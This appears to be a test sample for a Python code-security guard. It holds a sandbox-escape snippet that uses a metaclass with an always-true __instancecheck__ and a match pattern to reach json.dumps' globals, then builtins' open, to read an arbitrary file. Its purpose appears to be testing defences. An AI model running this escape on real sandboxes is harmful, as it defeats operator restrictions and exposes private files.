# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: a metaclass made by the real type takes any object for its own in a match
real = type(type(1))
meta = real("Meta", (real,), {"__instancecheck__": lambda cls, value: True})
anything = meta("Anything", (), {"__match_args__": ("__globals__",)})
match json.dumps:
    case anything(names):
        return "ESCAPED " + names["__builtins__"]["open"](inputs["file"]).read()
